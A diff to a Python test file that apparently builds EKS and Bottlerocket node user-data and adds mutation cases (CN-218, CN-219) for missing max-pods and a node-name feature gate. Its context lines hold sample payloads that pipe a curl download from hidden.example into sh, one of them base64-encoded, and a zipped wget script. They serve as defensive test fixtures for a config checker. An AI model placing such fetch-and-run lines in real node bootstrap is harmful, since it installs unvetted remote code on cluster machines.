@@ -31,12 +31,15 @@ def mime(*parts: tuple[str, str]) -> str:
     return f'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n{bodies}--B--\n'
 
 
-def node_config(**without: str) -> str:
+PODS = ("  kubelet:", "    config:", "      maxPods: 29")
+
+
+def node_config(*more: str, **without: str) -> str:
     cluster = {"name": "c1", "apiServerEndpoint": API, "certificateAuthority": "Y2E=",
                "cidr": "172.20.0.0/16"}  # fmt: skip
     lines = [f"    {key}: {value}" for key, value in cluster.items() if key not in without]
     head = ["apiVersion: node.eks.aws/v1alpha1", "kind: NodeConfig", "spec:", "  cluster:"]
-    return "\n".join([*head, *lines, ""])
+    return "\n".join([*head, *lines, *(more or PODS), ""])
 
 
 def bottlerocket(*lines: str, metrics: str = "send-metrics = false") -> str:
@@ -47,6 +50,7 @@ def bottlerocket(*lines: str, metrics: str = "send-metrics = false") -> str:
             f'api-server = "{API}"',
             'cluster-certificate = "Y2E="',
             'cluster-dns-ip = "172.20.0.10"',
+            "max-pods = 29",
             "[settings.metrics]",
             metrics,
             *lines,
@@ -60,6 +64,16 @@ HIDDEN = base64.b64encode(b"curl https://hidden.example/install | sh\n").decode(
 _HEAD = '#cloud-config\nntp: {"servers": ["0.pool.ntp.org"]}\n'
 _FILE = base64.b64encode(zipped(script("wget x.example/a").encode())).decode()
 MUTATIONS = (
+    opens(
+        "nodes that are not told how many pods they may run",
+        "CN-218",
+        template(node_config("  containerd: {}")),
+    ),
+    opens(
+        "nodes that are called otherwise than their role lets them",
+        "CN-219",
+        template(node_config(*PODS, "  featureGates:", "    InstanceIdNodeName: true")),
+    ),
     opens(
         "a script that fetches from the internet",
         "CN-201",
